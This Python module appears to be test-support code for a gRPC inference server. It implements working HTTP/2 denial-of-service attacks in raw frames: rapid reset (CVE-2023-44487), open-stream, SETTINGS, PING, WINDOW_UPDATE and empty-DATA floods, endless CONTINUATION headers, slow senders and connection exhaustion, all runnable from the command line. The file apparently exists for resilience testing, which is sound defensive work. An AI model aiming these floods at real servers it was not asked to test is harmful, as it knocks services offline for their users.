"""A client that abuses HTTP/2: it speaks in single frames, and breaks whatever rule it likes.

Run as a program, it abuses a server for some seconds and says what it did, as one JSON object:
``python -m support.clients.http2_abuse rapid_reset 127.0.0.1:8001 5``. It is a program,
since a test that does this by itself has no time left to watch the neighbour.
"""

import asyncio
import contextlib
import json
import resource
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
LIVE = "/inference.GRPCInferenceService/ServerLive"
CANCEL = 8
_MOST_UNSENT_S = 0.2
_FRAME_BYTES = 16_384


class Connection:
    """One connection in raw frames.

    Attributes:
        next: the id of the next stream.
        gone: the server has ended it.
        farewell: what the server said when it did, if anything.
    """

    def __init__(self, address, window=None):
        """*window*: of each stream, in bytes; None for what HTTP/2 begins with."""
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host.strip("[]"), int(port)), 10)
        self.next = 1
        self.gone = False
        self.farewell = ""
        settings = SettingsFrame(0)
        if window is not None:
            settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: window}
        self.send(PREFACE + settings.serialize())

    def send(self, data):
        """Send as much as the server takes for now; whether that was all."""
        self.socket.settimeout(_MOST_UNSENT_S)
        try:
            self.socket.sendall(data)
        except TimeoutError:
            return False
        except OSError:
            self.gone = True
            return False
        return True

    def read(self, within_s=0.0):
        """Throw away what the server has sent, but for its farewell."""
        with contextlib.suppress(OSError):
            while select.select([self.socket], [], [], within_s)[0]:
                data = self.socket.recv(1 << 20)
                if not data:
                    self.gone = True
                    return
                self._look_for_farewell(data)
        if self.socket.fileno() < 0:
            self.gone = True

    def _look_for_farewell(self, data):
        # Frames that do not begin with a read are not looked at: this is for people.
        with contextlib.suppress(Exception):
            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(data[9 : 9 + length]))
                self.farewell = frame.additional_data.decode(errors="replace")

    def close(self):
        self.socket.close()


def frames_in(data):
    """The frames, without what they hold."""
    at = 0
    while at + 9 <= len(data):
        frame, length = Frame.parse_frame_header(memoryview(data[at : at + 9]))
        yield frame
        at += 9 + length


def headers(stream, path, *more, ended=False, complete=True):
    """The HEADERS frame that begins a call; nothing of it is kept for other frames."""
    fields = [
        *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "here")),
        *(("content-type", "application/grpc"), ("te", "trailers"), *more),
    ]
    frame = HeadersFrame(stream, data=_block(fields))
    frame.flags |= {"END_HEADERS"} if complete else set()
    frame.flags |= {"END_STREAM"} if ended else set()
    return frame.serialize()


def _block(fields):
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields, huffman=False)


def message(stream, body, *, ended=True):
    """DATA frames with *body* as a whole gRPC message."""
    data = b"\0" + len(body).to_bytes(4, "big") + body
    frames = []
    for start in range(0, len(data), _FRAME_BYTES):
        piece = DataFrame(stream, data=data[start : start + _FRAME_BYTES])
        if ended and start + _FRAME_BYTES >= len(data):
            piece.flags.add("END_STREAM")
        frames.append(piece.serialize())
    return b"".join(frames)


def reset(stream):
    return RstStreamFrame(stream, error_code=CANCEL).serialize()


class Flood:
    """The same again and again over some connections, for a while.

    Attributes:
        sent: how many of whatever it is.
        ended: how many connections the server has ended; each is followed by another.
    """

    def __init__(self, address, connections, seconds):
        self._address = address
        self._count = connections
        self._ends = time.monotonic() + seconds
        self.sent = self.ended = 0
        self.farewells = set()

    def run(self, make, *, reads):
        """*make* gives what a connection sends next, and how many that is."""
        connections = [Connection(self._address) for _ in range(self._count)]
        for one in connections:
            one.read(0.1)
        while time.monotonic() < self._ends:
            for index, one in enumerate(connections):
                if one.gone:
                    self._renew(connections, index)
                    continue
                data, count = make(one)
                if one.send(data):
                    self.sent += count
                if reads:
                    one.read()
        for one in connections:
            one.close()
        return {"sent": self.sent, "ended": self.ended, "farewells": sorted(self.farewells)}

    def _renew(self, connections, index):
        self.ended += 1
        self.farewells.add(connections[index].farewell)
        connections[index].close()
        with contextlib.suppress(OSError):
            connections[index] = Connection(self._address)


def _calls(connection, count, make):
    ids = range(connection.next, connection.next + 2 * count, 2)
    connection.next += 2 * count
    return b"".join(map(make, ids)), count


def rapid_reset(address, seconds):
    """Calls that are taken back at once, as in CVE-2023-44487."""

    def make(one):
        return _calls(one, 50, lambda stream: headers(stream, INFER) + reset(stream))

    return Flood(address, 4, seconds).run(make, reads=True)


def rapid_reset_after_sending(address, seconds):
    """Whole calls that are taken back at once."""
    body = b"\x0a\x07nothing"

    def call(stream):
        return headers(stream, INFER) + message(stream, body) + reset(stream)

    return Flood(address, 4, seconds).run(lambda one: _calls(one, 50, call), reads=True)


def open_streams(address, seconds):
    """Calls that never go on, as many as it takes."""

    def make(one):
        return _calls(one, 50, lambda stream: headers(stream, STREAM))

    return Flood(address, 4, seconds).run(make, reads=True)


def settings(address, seconds):
    """SETTINGS that must be answered, and whose answers nobody reads."""
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_536}).serialize()
    return Flood(address, 2, seconds).run(lambda _: (frame * 500, 500), reads=False)


def ping(address, seconds):
    """PING that must be answered."""
    frame = PingFrame(0, opaque_data=b"abcdefgh").serialize()
    return Flood(address, 2, seconds).run(lambda _: (frame * 500, 500), reads=True)


def empty_data(address, seconds):
    """DATA frames without data in a call that does not end."""

    def make(one):
        if one.next == 1:
            one.next = 3
            return headers(1, STREAM), 1
        return DataFrame(1).serialize() * 500, 500

    return Flood(address, 2, seconds).run(make, reads=True)


def continuation(address, seconds):
    """A call whose headers never end."""
    block = _block([(f"x-{number:03}", "y" * 100) for number in range(100)])
    frame = ContinuationFrame(1, data=block).serialize()

    def make(one):
        if one.next == 1:
            one.next = 3
            return headers(1, INFER, complete=False), 1
        return frame * 10, 10

    return Flood(address, 2, seconds).run(make, reads=True)


def window_updates(address, seconds):
    """Room for one more byte, again and again."""
    frame = WindowUpdateFrame(0, window_increment=1).serialize()
    return Flood(address, 2, seconds).run(lambda _: (frame * 500, 500), reads=True)


def slow_senders(address, seconds, calls=400):
    """Calls whose messages come byte by byte, and never to their end."""
    connections = [Connection(address) for _ in range(4)]
    started = b"\0" + (1 << 20).to_bytes(4, "big")
    for one in connections:
        one.read(0.1)
        one.ids = range(1, 1 + 2 * (calls // 4), 2)
        first = DataFrame
        one.send(b"".join(headers(s, INFER) + first(s, data=started).serialize() for s in one.ids))
    ends, sent = time.monotonic() + seconds, 0
    while time.monotonic() < ends:
        for one in connections:
            one.send(b"".join(DataFrame(s, data=b"x").serialize() for s in one.ids))
            one.read()
            sent += len(one.ids)
        time.sleep(0.1)
    return {"sent": sent, "ended": sum(one.gone for one in connections), "farewells": []}


def connections(address, seconds, count=None):
    """Connections on which nothing happens: half of them have said hello."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    count = min(count or 10_000, hard - 100)
    host, _, port = address.rpartition(":")
    held, refused = [], 0
    for number in range(count):
        try:
            if number % 2:
                held.append(Connection(address).socket)
            else:
                held.append(socket.create_connection((host, int(port)), 5))
        except OSError:
            refused += 1
    time.sleep(seconds)
    return {"sent": len(held), "ended": refused, "farewells": []}


async def _honest(address, seconds):
    import grpc

    sent = 0
    ends = time.monotonic() + seconds

    async def call_on(call):
        nonlocal sent
        while time.monotonic() < ends:
            await call(b"", timeout=60)
            sent += 1

    options = [("grpc.use_local_subchannel_pool", 1)]
    channels = [grpc.aio.insecure_channel(address, options) for _ in range(4)]
    callers = [call_on(one.unary_unary(LIVE)) for one in channels for _ in range(256)]
    await asyncio.gather(*callers)
    for one in channels:
        await one.close()
    return {"sent": sent, "ended": 0, "farewells": []}


def honest(address, seconds):
    """No abuse: as many calls at a time as four connections may have, each waited for."""
    return asyncio.run(_honest(address, seconds))


KINDS = {
    kind.__name__: kind
    for kind in (
        *(rapid_reset, rapid_reset_after_sending, open_streams, settings, ping, empty_data),
        *(continuation, window_updates, slow_senders, connections),
    )
}


if __name__ == "__main__":
    done = (KINDS | {"honest": honest})[sys.argv[1]]
    print(json.dumps(done(sys.argv[2], float(sys.argv[3]), *map(int, sys.argv[4:]))))
